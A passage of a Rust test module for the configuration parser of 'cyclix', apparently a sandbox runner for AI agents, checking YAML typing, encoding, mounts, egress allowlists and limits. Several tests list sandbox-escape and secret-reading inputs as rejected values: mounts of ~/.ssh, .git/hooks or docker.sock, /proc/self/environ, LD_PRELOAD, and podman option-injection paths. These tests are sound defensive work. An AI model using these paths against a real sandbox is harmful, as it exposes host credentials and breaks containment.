                .find(|x| x.message.starts_with("unknown key"))
                .expect("unknown key reported");
            assert_eq!(
                (
                    first.line.unwrap_or(0),
                    first.column.unwrap_or(0),
                    first.path.clone(),
                    first.message.clone()
                ),
                want
            );
            assert_eq!(first.hint.as_deref(), Some(hint));
        }
    }

    #[test]
    fn missing_required_keys_are_reported_at_the_parent() {
        let e = err(&with("  base: main\n", ""));
        assert_eq!(e.diagnostics.len(), 1, "{e}");
        let m = &e.diagnostics[0];
        assert_eq!(
            (m.line, m.path.as_str(), m.message.as_str()),
            (Some(3), "repo.base", "missing required key `base`")
        );
        let messages: Vec<String> = err("tenant: acme\n")
            .diagnostics
            .into_iter()
            .map(|d| format!("{}: {}", d.path, d.message))
            .collect();
        assert_eq!(
            messages,
            [
                "repo: missing required key `repo`",
                "task: missing required key `task`",
                "agent: missing required key `agent`",
                "gate: missing required key `gate`"
            ]
        );
        assert_eq!(one(""), d(1, 1, "", "the spec is empty"));
        assert_eq!(
            one("- a\n"),
            d(
                1,
                1,
                "",
                "expected a mapping (`key: value` lines), found a sequence"
            )
        );
    }

    // --- §4 "YAML 1.1 typing" ---

    #[test]
    #[allow(clippy::too_many_lines)] // one table
    fn implicit_yaml_types_in_string_fields_are_rejected() {
        let cases = [
            (
                with("tenant: acme", "tenant: no"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found boolean `no` (YAML 1.1 would read it as false)",
                ),
                "quote it: \"no\"",
            ),
            (
                with("tenant: acme", "tenant: yes"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found boolean `yes` (YAML 1.1 would read it as true)",
                ),
                "quote it: \"yes\"",
            ),
            (
                with("tenant: acme", "tenant: y"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found boolean `y` (YAML 1.1 would read it as true)",
                ),
                "quote it: \"y\"",
            ),
            (
                with("tenant: acme", "tenant: off"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found boolean `off` (YAML 1.1 would read it as false)",
                ),
                "quote it: \"off\"",
            ),
            (
                with("tenant: acme", "tenant: true"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found boolean `true` (YAML would read it as true)",
                ),
                "quote it: \"true\"",
            ),
            (
                with("tenant: acme", "tenant: ~"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found null `~` (YAML would read it as null (no value))",
                ),
                "quote it: \"~\"",
            ),
            (
                with("tenant: acme", "tenant: null"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found null `null` (YAML would read it as null (no value))",
                ),
                "quote it: \"null\"",
            ),
            (
                with("tenant: acme", "tenant:"),
                d(1, 7, "tenant", "expected a string, found an empty value"),
                "write a value, or remove the key",
            ),
            (
                with("tenant: acme", "tenant: 1e3"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found float `1e3` (YAML would read it as 1000)",
                ),
                "quote it: \"1e3\"",
            ),
            (
                with("tenant: acme", "tenant: .inf"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found float `.inf` (YAML would read it as infinity)",
                ),
                "quote it: \".inf\"",
            ),
            (
                with("tenant: acme", "tenant: 0x1F"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found integer `0x1F` (YAML would read it as 31)",
                ),
                "quote it: \"0x1F\"",
            ),
            (
                with("tenant: acme", "tenant: 1_000"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found integer `1_000` (YAML 1.1 would read it as 1000)",
                ),
                "quote it: \"1_000\"",
            ),
            (
                with("tenant: acme", "tenant: 1:20"),
                d(
                    1,
                    9,
                    "tenant",
                    "expected a string, found integer `1:20` (YAML 1.1 would read it as a base-60 number)",
                ),
                "quote it: \"1:20\"",
            ),
            (
                with("  base: main", "  base: 0755"),
                d(
                    4,
                    9,
                    "repo.base",
                    "expected a string, found integer `0755` (YAML 1.1 would read it as octal 493)",
                ),
                "quote it: \"0755\"",
            ),
            (
                with("  base: main", "  base: 1234567"),
                d(
                    4,
                    9,
                    "repo.base",
                    "expected a string, found integer `1234567` (YAML would read it as 1234567)",
                ),
                "quote it: \"1234567\"",
            ),
            (
                plus("schedule:\n  on_calendar: 2024-01-01\n"),
                d(
                    14,
                    16,
                    "schedule.on_calendar",
                    "expected a string, found date `2024-01-01` (YAML 1.1 would read it as a timestamp)",
                ),
                "quote it: \"2024-01-01\"",
            ),
            (
                with("[agent, --run]", "[agent, 1]"),
                d(
                    9,
                    20,
                    "agent.command[1]",
                    "expected a string, found integer `1` (YAML would read it as 1)",
                ),
                "quote it: \"1\"",
            ),
            (
                plus("egress:\n  allow: [127.1]\n"),
                d(
                    14,
                    11,
                    "egress.allow[0]",
                    "expected a string, found float `127.1` (YAML would read it as 127.1)",
                ),
                "quote it: \"127.1\"",
            ),
            (
                with(
                    "  command: [agent, --run]",
                    "  command: [agent]\n  timeout: 90",
                ),
                d(
                    10,
                    12,
                    "agent.timeout",
                    "expected a string, found integer `90` (YAML would read it as 90)",
                ),
                "write a duration with a unit, e.g. `90s`, `30m` or `1h30m`",
            ),
            (
                with(
                    "  command: [agent, --run]",
                    "  command: [agent]\n  resources: {memory: 512}",
                ),
                d(
                    10,
                    23,
                    "agent.resources.memory",
                    "expected a string, found integer `512` (YAML would read it as 512)",
                ),
                "write a size with a unit, e.g. `512M` or `2G`",
            ),
        ];
        for (text, want, hint) in cases {
            let e = err(&text);
            assert_eq!(e.diagnostics.len(), 1, "{e}");
            let got = &e.diagnostics[0];
            assert_eq!(
                (
                    got.line.unwrap_or(0),
                    got.column.unwrap_or(0),
                    got.path.clone(),
                    got.message.clone()
                ),
                want,
                "{text}"
            );
            assert_eq!(got.hint.as_deref(), Some(hint));
        }
        // Quoted forms are plain strings.
        let s = ok(&with("  base: main", "  base: \"0755\""));
        assert_eq!(s.repo.base, "0755");
        ok(&with("tenant: acme", "tenant: 'no'"));
        ok(&plus("schedule:\n  on_calendar: \"2024-01-01\"\n"));
    }

    #[test]
    fn booleans_are_only_true_and_false() {
        for (value, message) in [
            ("yes", "expected `true` or `false`, found `yes`"),
            ("on", "expected `true` or `false`, found `on`"),
            ("True", "expected `true` or `false`, found `True`"),
            (
                "\"true\"",
                "expected `true` or `false`, found string \"true\"",
            ),
            ("1", "expected `true` or `false`, found integer `1`"),
        ] {
            assert_eq!(
                one(&plus(&format!("worktree_isolation: {value}\n"))),
                d(13, 21, "worktree_isolation", message),
                "{value}"
            );
        }
        assert!(ok(&plus("worktree_isolation: true\n")).legacy_worktree_isolation);
        assert!(!ok(&plus("worktree_isolation: false\n")).legacy_worktree_isolation);
    }

    #[test]
    fn numbers_are_plain_decimals() {
        for (value, message) in [
            ("\"443\"", "expected an integer, found string \"443\""),
            ("0x1BB", "`0x1BB` is not written as a plain decimal number"),
            ("0443", "`0443` is not written as a plain decimal number"),
            ("4_43", "`4_43` is not written as a plain decimal number"),
            (
                "4.43e2",
                "`4.43e2` is not written as a plain decimal number",
            ),
        ] {
            assert_eq!(
                one(&plus(&format!("egress:\n  ports: [{value}]\n"))),
                d(14, 11, "egress.ports[0]", message),
                "{value}"
            );
        }
    }

    // --- §4 "Encoding" ---

    #[test]
    fn encoding_problems_are_reported_with_line_and_column() {
        let cases = [
            (
                format!("\u{FEFF}{}", base()),
                d(1, 1, "", "the file starts with a byte-order mark (U+FEFF)"),
            ),
            (
                base().replace('\n', "\r\n"),
                d(
                    1,
                    13,
                    "",
                    "carriage return (CRLF line ending) (11 more in the file)",
                ),
            ),
            (
                with("  base: main", "\tbase: main"),
                d(4, 1, "", "tab used for indentation"),
            ),
            (
                with("  base: main", "  base: main\t# tab"),
                d(4, 13, "", "tab character"),
            ),
            (
                with("tenant: acme", "tenant: \"ac\u{202E}me\""),
                d(
                    1,
                    12,
                    "",
                    "invisible or bidirectional formatting character U+202E (right-to-left override)",
                ),
            ),
            (
                with("tenant: acme", "tenant: ac\u{200B}me"),
                d(
                    1,
                    11,
                    "",
                    "invisible or bidirectional formatting character U+200B (zero-width space)",
                ),
            ),
            (
                with("tenant: acme", "tenant: acme # \u{2066}x"),
                d(
                    1,
                    16,
                    "",
                    "invisible or bidirectional formatting character U+2066 (left-to-right isolate)",
                ),
            ),
            (
                with("tenant: acme", "tenant: a\u{1b}cme"),
                d(1, 10, "", "control character U+001B (escape)"),
            ),
            (
                with("tenant: acme", "tenant: a\u{0085}cme"),
                d(1, 10, "", "control character U+0085"),
            ),
            (
                with("tenant: acme", "tenant: a\u{7f}cme"),
                d(1, 10, "", "control character U+007F (delete)"),
            ),
        ];
        for (text, want) in cases {
            assert_eq!(one(&text), want, "{text:?}");
        }
    }

    // --- the parser pieces ---

    #[test]
    fn plain_reading_classifies_yaml_11_and_12_scalars() {
        for s in [
            "acme",
            "main",
            "2G",
            "30m",
            "pypi.org",
            "1.2.3.4",
            "0177.0.0.1",
            "feature/x",
            "v1.2",
            "1-2",
            "*.x.org",
            "-q",
            "e3",
            "_1",
            "0x",
            "12:60",
            "2024-13",
        ] {
            assert_eq!(plain_reading(s), None, "{s}");
        }
        for (s, kind) in [
            ("no", "boolean"),
            ("NO", "boolean"),
            ("On", "boolean"),
            ("~", "null"),
            ("12", "integer"),
            ("-12", "integer"),
            ("+12", "integer"),
            ("0o17", "integer"),
            ("0b101", "integer"),
            ("1.5", "float"),
            (".5", "float"),
            ("5.", "float"),
            ("1e3", "float"),
            ("-1E-3", "float"),
            ("-.inf", "float"),
            (".NaN", "float"),
            ("1:20:30", "integer"),
            ("1:20.5", "float"),
            ("2024-1-1", "date"),
            ("2024-01-01T02:00:00Z", "date"),
            ("2024-01-01 02:00:00", "date"),
        ] {
            assert_eq!(plain_reading(s).map(|r| r.0), Some(kind), "{s}");
        }
    }

    /// Every diagnostic as `(line, column, path, message)`.
    fn all(text: &str) -> Vec<(usize, usize, String, String)> {
        err(text)
            .diagnostics
            .into_iter()
            .map(|x| {
                (
                    x.line.unwrap_or(0),
                    x.column.unwrap_or(0),
                    x.path,
                    x.message,
                )
            })
            .collect()
    }

    // --- §4 "Prefix tricks" ---

    #[test]
    fn writable_mounts_must_be_inside_the_project_component_wise() {
        let cases = [
            (
                "{ source: /home/u/proj-evil, target: /mnt/a, read_only: false }",
                d(
                    14,
                    61,
                    "mounts[0].read_only",
                    "writable mount `/home/u/proj-evil` is outside the project `/home/u/proj`",
                ),
            ),
            (
                "{ source: /home, target: /mnt/a, read_only: false }",
                d(
                    14,
                    15,
                    "mounts[0].source",
                    "mount source `/home` contains your home directory `/home/u`, which no sandbox may see, read-only or not",
                ),
            ),
            (
                "{ source: /home/u/proj/../other, target: /mnt/a }",
                d(
                    14,
                    15,
                    "mounts[0].source",
                    "`/home/u/proj/../other` contains a `..` component",
                ),
            ),
            (
                "{ source: proj/x, target: /mnt/a }",
                d(14, 15, "mounts[0].source", "`proj/x` is a relative path"),
            ),
            (
                "{ source: \"~root/x\", target: /mnt/a }",
                d(
                    14,
                    15,
                    "mounts[0].source",
                    "`~root/x`: `~user` paths are not supported",
                ),
            ),
        ];
        for (entry, want) in cases {
            assert_eq!(
                one(&plus(&format!("mounts:\n  - {entry}\n"))),
                want,
                "{entry}"
            );
        }
        let s = ok(&plus(
            "mounts:\n  - { source: /srv/d//x/./y/, target: /mnt//a/./b, read_only: true }\n  - { source: \"~/data\", target: /mnt/c }\n",
        ));
        assert_eq!(
            s.mounts,
            vec![
                super::super::Mount {
                    source: "/srv/d/x/y".into(),
                    target: "/mnt/a/b".into(),
                    read_only: true,
                    source_line: 14,
                    source_column: 15,
                },
                super::super::Mount {
                    source: "/home/u/data".into(),
                    target: "/mnt/c".into(),
                    read_only: true,
                    source_line: 15,
                    source_column: 15,
                },
            ]
        );
        // Issue 11: the project itself is never mounted again, writable or not (it handed the
        // agent the user's git config and hooks); the agent has its checkout at /work.
        let got = one(&plus(
            "mounts:\n  - { source: /home/u/proj, target: /mnt/p, read_only: false }\n",
        ));
        assert!(got.3.contains("is the project repository"), "{got:?}");
        // Found by a newcomer trying to break it: the project's .git (its hooks run on the
        // host), podman's storage (other tenants' secrets), the tenants' env files, keys.
        for (source, want) in [
            ("/home/u/proj/.git", "is the project's git directory"),
            (
                "/home/u/proj/.git/hooks",
                "lies inside the project's git directory",
            ),
            (
                "/home/u/.local/share/containers",
                "lies inside your data directory",
            ),
            (
                "/home/u/.config/cyclix/tenants",
                "lies inside cyclix's configuration",
            ),
            ("/home/u/.ssh", "is your SSH keys"),
            (
                "/home/u/.local/state/cyclix/runs",
                "lies inside cyclix's state",
            ),
        ] {
            let got = one(&plus(&format!(
                "mounts:\n  - {{ source: {source}, target: /mnt/a }}\n"
            )));
            assert!(got.3.contains(want), "{source}: {got:?}");
        }
    }

    // --- §4 "podman -v option injection" ---

    #[test]
    fn mount_paths_with_option_characters_are_rejected() {
        for (source, target, want) in [
            (
                "\"/p:/dst\"",
                "/mnt/a",
                d(
                    14,
                    15,
                    "mounts[0].source",
                    "mount path `/p:/dst` contains `:`",
                ),
            ),
            (
                "\"/p,rw\"",
                "/mnt/a",
                d(
                    14,
                    15,
                    "mounts[0].source",
                    "mount path `/p,rw` contains `,`",
                ),
            ),
            (
                "/p",
                "\"/mnt/a:rw,z\"",
                d(
                    14,
                    27,
                    "mounts[0].target",
                    "mount path `/mnt/a:rw,z` contains `:`",
                ),
            ),
            (
                "/p",
                "/mnt/a=b",
                d(
                    14,
                    27,
                    "mounts[0].target",
                    "mount path `/mnt/a=b` contains `=`",
                ),
            ),
        ] {
            let text = plus(&format!(
                "mounts:\n  - {{ source: {source}, target: {target} }}\n"
            ));
            assert_eq!(one(&text), want, "{source} {target}");
        }
    }

    // --- §4 "Destination abuse" and denied sources ---

    #[test]
    #[allow(clippy::too_many_lines)] // tables
    fn mount_targets_stay_under_mnt_and_sources_avoid_host_internals() {
        for (target, want) in [
            ("/proc", "mount target `/proc` is not under /mnt/"),
            (
                "/sys/fs/cgroup",
                "mount target `/sys/fs/cgroup` is not under /mnt/",
            ),
            ("/", "mount target `/` is not under /mnt/"),
            (
                "/etc/resolv.conf",
                "mount target `/etc/resolv.conf` is not under /mnt/",
            ),
            ("/mnt", "mount target `/mnt` is not under /mnt/"),
            ("/mnt/..", "`/mnt/..` contains a `..` component"),
            ("mnt/x", "`mnt/x` is a relative path"),
            ("~/x", "`~/x`: `~` is not allowed here"),
        ] {
            let text = plus(&format!(
                "mounts:\n  - {{ source: /data, target: \"{target}\" }}\n"
            ));
            assert_eq!(one(&text), d(14, 30, "mounts[0].target", want), "{target}");
        }
        let overlap = plus(
            "mounts:\n  - { source: /a, target: /mnt/x }\n  - { source: /b, target: /mnt/x/y }\n  - { source: /c, target: /mnt/x }\n",
        );
        assert_eq!(
            all(&overlap),
            vec![
                d(
                    15,
                    27,
                    "mounts[1].target",
                    "mount target `/mnt/x/y` overlaps `/mnt/x` (line 14)"
                ),
                d(
                    16,
                    27,
                    "mounts[2].target",
                    "mount target `/mnt/x` overlaps `/mnt/x` (line 14)"
                ),
            ]
        );
        for (source, want) in [
            (
                "/proc/self",
                "mount source `/proc/self` is under /proc, which is never mounted into a sandbox",
            ),
            (
                "/sys",
                "mount source `/sys` is under /sys, which is never mounted into a sandbox",
            ),
            (
                "/dev/sda",
                "mount source `/dev/sda` is under /dev, which is never mounted into a sandbox",
            ),
            (
                "/run/podman",
                "mount source `/run/podman` is under /run, which is never mounted into a sandbox",
            ),
            (
                "/var/run/docker.sock",
                "mount source `/var/run/docker.sock` is under /var/run, which is never mounted into a sandbox",
            ),
            (
                "/tmp/xdg/podman",
                "mount source `/tmp/xdg/podman` is under /tmp/xdg, which is never mounted into a sandbox",
            ),
            (
                "/srv/podman/podman.sock",
                "mount source `/srv/podman/podman.sock` looks like a container-engine socket; mounting it hands over the host, even read-only",
            ),
            (
                "/home/u/vm/desktop/docker.SOCK",
                "mount source `/home/u/vm/desktop/docker.SOCK` looks like a container-engine socket; mounting it hands over the host, even read-only",
            ),
            (
                "/",
                "mount source `/` contains your home directory `/home/u`, which no sandbox may see, read-only or not",
            ),
            (
                "~",
                "mount source `/home/u` is your home directory `/home/u`, which no sandbox may see, read-only or not",
            ),
        ] {
            let text = plus(&format!(
                "mounts:\n  - {{ source: \"{source}\", target: /mnt/x }}\n"
            ));
            let c = SpecContext {
                runtime_dir: "/tmp/xdg".into(),
                ..ctx()
            };
            let e = parse(&text, &c).expect_err("must refuse");
            assert_eq!(e.diagnostics.len(), 1, "{e}");
            let got = &e.diagnostics[0];
            assert_eq!(
                (
                    got.line,
                    got.column,
                    got.path.as_str(),
                    got.message.as_str()
                ),
                (Some(14), Some(15), "mounts[0].source", want),
                "{source}"
            );
        }
    }

    // --- §4 "Domain allowlist entries" ---

    #[test]
    fn allowlist_entries_are_checked_and_normalised() {
        use super::super::HostPattern::{Exact, Subdomains};
        let text = plus(
            "egress:\n  allow:\n    - \"https://x.com\"\n    - x.com/path\n    - \"*\"\n    - \"*x.com\"\n    - \"a.*.com\"\n    - 1.2.3.4\n    - \"[::1]\"\n    - \"\"\n    - \"x.com:22\"\n    - \"127.1\"\n    - \"0x7f000001\"\n    - \"2130706433\"\n    - 0177.0.0.1\n    - \"*.com\"\n    - localhost\n    - \"a_b.com\"\n",
        );
        let got = all(&text);
        let want: Vec<(usize, String, String)> = [
            (
                "egress.allow[0]",
                "`https://x.com` has a scheme; write the host name only",
            ),
            (
                "egress.allow[1]",
                "`x.com/path` has a path; write the host name only",
            ),
            ("egress.allow[2]", "a bare `*` would allow every host"),
            (
                "egress.allow[3]",
                "`*x.com`: `*` is allowed only as a leading `*.` (as in `*.example.com`)",
            ),
            (
                "egress.allow[4]",
                "`a.*.com`: `*` is allowed only as a leading `*.` (as in `*.example.com`)",
            ),
            (
                "egress.allow[5]",
                "`1.2.3.4` is an IP address; only host names are allowed",
            ),
            (
                "egress.allow[6]",
                "`[::1]` is an IP address; only host names are allowed",
            ),
            ("egress.allow[7]", "empty host"),
            (
                "egress.allow[8]",
                "`x.com:22` has a port; write the host name only and list ports in `egress.ports`",
            ),
            (
                "egress.allow[9]",
                "`127.1` is an IP address; only host names are allowed",
            ),
            (
                "egress.allow[10]",
                "`0x7f000001` is an IP address; only host names are allowed",
            ),
            (
                "egress.allow[11]",
                "`2130706433` is an IP address; only host names are allowed",
            ),
            (
                "egress.allow[12]",
                "`0177.0.0.1` is an IP address; only host names are allowed",
            ),
            (
                "egress.allow[13]",
                "`*.com` is too broad: it covers a whole top-level domain",
            ),
            (
                "egress.allow[14]",
                "`localhost` is a single-label name; write a fully qualified host name",
            ),
            ("egress.allow[15]", "`a_b.com` is not a valid host name"),
        ]
        .iter()
        .enumerate()
        .map(|(i, (p, m))| {
            (
                15 + i,
                (*p).to_owned(),
                format!("invalid allowlist entry: {m}"),
            )
        })
        .collect();
        let got: Vec<(usize, String, String)> =
            got.into_iter().map(|(l, _, p, m)| (l, p, m)).collect();
        assert_eq!(got, want);
        let s = ok(&plus(
            "egress:\n  allow: [\"A.EXAMPLE.COM.\", \"*.Example.com\", тест.com, a.example.com, \"*.example.com\"]\n  ports: [8443, 443, 8443]\n  report_only: true\n",
        ));
        assert_eq!(
            s.egress.allow,
            vec![
                Exact("a.example.com".into()),
                Exact("xn--e1aybc.com".into()),
                Subdomains("example.com".into())
            ]
        );
        assert_eq!(s.egress.ports, vec![443, 8443]);
        assert!(s.egress.report_only);
        assert!(ok(&plus("egress:\n  allow: []\n")).egress.allow.is_empty());
    }

    // --- §4 "Env vars" ---

    #[test]
    fn env_names_follow_the_alphabet_and_the_denylist() {
        let text = with(
            "  command: [agent, --run]",
            "  command: [agent]\n  env: [A-B, LD_PRELOAD, \"PATH=/x\", PATH, HOME, HTTPS_PROXY, no_proxy, CYCLIX_RUN, lower, GOOD_1, GOOD_1]",
        );
        let got: Vec<(usize, String, String)> = all(&text)
            .into_iter()
            .map(|(l, _, p, m)| (l, p, m))
            .collect();
        let want: Vec<(usize, String, String)> = [
            ("agent.env[0]", "`A-B` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
            ("agent.env[1]", "`LD_PRELOAD` is not allowed: LD_* variables control the dynamic loader"),
            ("agent.env[2]", "`PATH=/x` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
            ("agent.env[3]", "`PATH` is not allowed: the image defines it"),
            ("agent.env[4]", "`HOME` is not allowed: the image defines it"),
            ("agent.env[5]", "`HTTPS_PROXY` is not allowed: cyclix sets the proxy variables to the run's egress proxy"),
            ("agent.env[6]", "`no_proxy` is not allowed: cyclix sets the proxy variables to the run's egress proxy"),
            ("agent.env[7]", "`CYCLIX_RUN` is not allowed: CYCLIX_* variables are set by cyclix"),
            ("agent.env[8]", "`lower` is not a valid variable name; use [A-Z_][A-Z0-9_]* (uppercase letters, digits, `_`)"),
            ("agent.env[10]", "`GOOD_1` is listed twice (first at line 10)"),
        ]
        .iter()
        .map(|(p, m)| (10, (*p).to_owned(), (*m).to_owned()))
        .collect();
        assert_eq!(got, want);
    }

    // --- §4 "Schedules and limits" ---

    #[test]
    fn schedules_and_resource_limits_are_bounded() {
        for (cal, want) in [
            (
                "*-*-* *:*:*/1",
                "`*-*-* *:*:*/1` runs more often than every 5 minutes",
            ),
            (
                "minutely",
                "`minutely` runs every minute; the shortest interval is 5 minutes",
            ),
            ("*:*", "`*:*` runs more often than every 5 minutes"),
            ("*:0/2", "`*:0/2` runs more often than every 5 minutes"),
            ("*:00,03", "`*:00,03` runs more often than every 5 minutes"),
            ("*:00,58", "`*:00,58` runs more often than every 5 minutes"),
            (
                "*-*-* 02:00..10",
                "`*-*-* 02:00..10` runs more often than every 5 minutes",
            ),
            ("", "the calendar expression is empty"),
            (
                "every day",
                "calendar expression `every day` is not supported",
            ),
            (
                "*-*-* 25:00",
                "calendar expression `*-*-* 25:00` is not supported",
            ),
        ] {
            let text = plus(&format!("schedule:\n  on_calendar: \"{cal}\"\n"));
            assert_eq!(one(&text), d(14, 16, "schedule.on_calendar", want), "{cal}");
        }
        for cal in [
            "daily",
            "hourly",
            "weekly",
            "*-*-* 02:00:00",
            "Mon..Fri 03:00",
            "Sat,Sun 10:30",
            "*:0/5",
            "*:00,30",
            "*-*-01 04:00 UTC",
            "2030-01-01 00:00:00",
        ] {
            let s = ok(&plus(&format!(
                "schedule:\n  on_calendar: \"{cal}\"\n  randomized_delay: 10m\n"
            )));
            let sch = s.schedule.expect("schedule");
            assert_eq!(
                (
                    sch.on_calendar.as_str(),
                    sch.persistent,
                    sch.randomized_delay_s
                ),
                (cal, true, 600)
            );
        }
        let limits = with(
            "  command: [agent, --run]",
            "  command: [agent]\n  timeout: 5s\n  resources: {memory: \"-1\", cpus: 1e9, pids: 70000}",
        );
        assert_eq!(
            all(&limits),
            vec![
                d(10, 12, "agent.timeout", "duration `5s` is out of range"),
                d(
                    11,
                    23,
                    "agent.resources.memory",
                    "memory `-1` is not a size like `512M` or `2G`"
                ),
                d(
                    11,
                    35,
                    "agent.resources.cpus",
                    "`1e9` is not written as a plain decimal number"
                ),
                d(
                    11,
                    46,
                    "agent.resources.pids",
                    "pids `70000` is out of range"
                ),
            ]
        );
        let e = err(&limits);
        assert_eq!(
            e.diagnostics[0].hint.as_deref(),
            Some("use a duration from 10s to 24h")
        );
        assert_eq!(
            e.diagnostics[3].hint.as_deref(),
            Some("use a process limit from 16 to 65536")
        );
        let s = ok(&with(
            "  command: [agent, --run]",
            "  command: [agent]\n  timeout: 1h30m\n  resources: {memory: 512M, cpus: 0.01, pids: 16}",
        ));
        assert_eq!(s.agent.timeout_s, 5400);
        assert_eq!(s.agent.resources.memory_bytes, Some(512 << 20));
        assert_eq!(s.agent.resources.cpu_millis, Some(10));
        assert_eq!(s.agent.resources.pids, Some(16));
    }

    // --- images, task, tier, services, collected diagnostics ---

    #[test]
    fn images_must_be_pinned_unless_loudly_local() {
        let digest_line = format!("  image: ghcr.io/acme/gate@sha256:{DIGEST}");
        for (image, flag, want) in [
            (
                "ghcr.io/acme/gate:latest",
                "",
                d(
                    11,
                    10,
                    "gate.image",
                    "image `ghcr.io/acme/gate:latest` is not pinned by digest",
                ),
            ),
            (
                "localhost/gate",
                "",
                d(
                    11,
                    10,
                    "gate.image",
                    "image `localhost/gate` is not pinned by digest",
                ),
            ),
            (
                "ghcr.io/acme/gate",
                "true",
                d(
                    12,
                    25,
                    "gate.unpinned_local_image",
                    "`unpinned_local_image: true` is only allowed for `localhost/` images, not `ghcr.io/acme/gate`",
                ),
            ),
            (
                "ghcr.io/acme/gate@sha256:abc",
                "",
                d(
                    11,
                    10,
                    "gate.image",
                    "image digest `sha256:abc` is not `sha256:` and 64 lowercase hex digits",
                ),
            ),
            (
                "ghcr.io/Acme/gate@sha256:x",
                "",
                d(
                    11,
                    10,
                    "gate.image",
                    "invalid image reference `ghcr.io/Acme/gate@sha256:x`: invalid path component `Acme`",
                ),
            ),
        ] {
            let line = if flag.is_empty() {
                format!("  image: {image}")
            } else {
                format!("  image: {image}\n  unpinned_local_image: {flag}")
            };
            assert_eq!(one(&with(&digest_line, &line)), want, "{image}");
        }
        let pinned_and_flagged = with(
            &digest_line,
            &format!("{digest_line}\n  unpinned_local_image: true"),
        );
        assert_eq!(
            one(&pinned_and_flagged),
            d(
                12,
                25,
                "gate.unpinned_local_image",
                "`unpinned_local_image: true` is set but the image is pinned by digest"
            )
        );
        let s = ok(&with(
            &digest_line,
            "  image: localhost/gate:dev\n  unpinned_local_image: true",
        ));
        assert_eq!(
            s.gate.image,
            Image::UnpinnedLocal {
                reference: "localhost/gate:dev".into()
            }
        );
    }

    #[test]
    fn project_path_and_task_file_avoid_host_internals() {
        for (path, want) in [
            (
                "/",
                "project path `/` would expose your whole home directory (~/.ssh included)",
            ),
            (
                "\"~\"",
                "project path `/home/u` would expose your whole home directory (~/.ssh included)",
            ),
            (
                "/proc/1/root",
                "project path `/proc/1/root` is under /proc, which is never mounted into a sandbox",
            ),
            (
                "/run/user/1000/x",
                "project path `/run/user/1000/x` is under /run, which is never mounted into a sandbox",
            ),
            ("\"/p:/q\"", "mount path `/p:/q` contains `:`"),
        ] {
            assert_eq!(
                one(&with("  path: /home/u/proj", &format!("  path: {path}"))),
                d(3, 9, "repo.path", want),
                "{path}"
            );
        }
        assert_eq!(
            one(&with("  text: do it", "  file: /proc/self/environ")),
            d(
                6,
                9,
                "task.file",
                "task file `/proc/self/environ` is under /proc"
            )
        );
    }

    #[test]
    fn odd_keys_are_shown_escaped() {
        assert_eq!(
            one(&plus("\"a\\nb\": 1\n")),
            d(13, 1, "a\\nb", "unknown key `a\\nb`")
        );
        assert_eq!(one(&plus("1: x\n")), d(13, 1, "1", "unknown key `1`"));
    }

    #[test]
    fn truncated_and_mutated_input_never_panics() {
        let good = include_str!("../../tests/fixtures/spec/good.yaml");
        let cuts: Vec<usize> = good.char_indices().map(|(i, _)| i).collect();
        for &cut in cuts.iter().step_by(3) {
            let _ = parse(&good[..cut], &ctx());
        }
        let inserts = [
            "", ":", "[", "{", "&a ", "*a", "!", "é", "\"", "- ", "#", "~", "..", "\\",
        ];
        for &at in cuts.iter().step_by(23) {
            for ins in inserts {
                let mut text = good[..at].to_owned();
                text.push_str(ins);
                text.push_str(good[at..].get(1..).unwrap_or_default());
                let _ = parse(&text, &ctx());
            }
        }
    }

    #[test]
    fn task_has_exactly_one_of_text_and_file() {
        assert_eq!(
            one(&with("  text: do it", "  text: do it\n  file: /t.md")),
            d(7, 9, "task.file", "`task` has both `text` and `file`")
        );
        assert_eq!(
            one(&with("task:\n  text: do it", "task: {}")),
            d(5, 7, "task", "`task` needs `text` or `file`")
        );
        assert_eq!(
            one(&with("  text: do it", "  text: \"  \"")),
            d(6, 9, "task.text", "task text is empty")
        );
        assert_eq!(
            ok(&with("  text: do it", "  file: ~/t/./a.md")).task,
            super::super::Task::File("/home/u/t/a.md".into())
        );
    }

    #[test]
    fn tier_repo_and_services_are_checked() {
        let e = err(&plus("tier: contianer\n"));
        assert_eq!(e.diagnostics[0].message, "unknown tier `contianer`");
        assert_eq!(
            e.diagnostics[0].hint.as_deref(),
            Some("did you mean `container`? tiers: direct, worktree, container")
        );
        assert_eq!(
            ok(&plus("tier: worktree\n")).tier,
            crate::tier::Tier::Worktree
        );
        for (base, want) in [
            ("\"-x\"", "invalid base: `-x` starts with `-`"),
            ("a..b", "invalid base: `a..b` contains `..`"),
            ("\"a@{1}\"", "invalid base: `a@{1}` contains `@{`"),
            (
                "x.lock",
                "invalid base: component `x.lock` of `x.lock` ends with `.lock`",
            ),
            ("\"x/\"", "invalid base: `x/` has an empty path component"),
            (
                "\"a b\"",
                "invalid base: `a b` contains ` `, which git does not allow in a ref",
            ),
            (
                "\"a~1\"",
                "invalid base: `a~1` contains `~`, which git does not allow in a ref",
            ),
        ] {
            assert_eq!(
                one(&with("  base: main", &format!("  base: {base}"))),
                d(4, 9, "repo.base", want),
                "{base}"
            );
        }
        assert_eq!(
            ok(&with("  base: main", "  base: release/1.2")).repo.base,
            "release/1.2"
        );
        let services = plus(&format!(
            "services:\n  - {{ name: db, image: \"localhost/pg@sha256:{DIGEST}\", port: 5432 }}\n  - {{ name: db, image: \"localhost/pg@sha256:{DIGEST}\", port: 5432, env: [PGPASSWORD] }}\n  - {{ name: Cache, image: \"localhost/r@sha256:{DIGEST}\", port: 80 }}\n"
        ));
        let got: Vec<(usize, String, String)> = all(&services)
            .into_iter()
            .map(|(l, _, p, m)| (l, p, m))
            .collect();
        assert_eq!(
            got,
            vec![
                (
                    15,
                    "services[1].name".to_owned(),
                    "service `db` is defined twice (first at line 14)".to_owned()
                ),
                (
                    15,
                    "services[1].port".to_owned(),
                    "port 5432 is already used by another service (line 14)".to_owned()
                ),
                (
                    16,
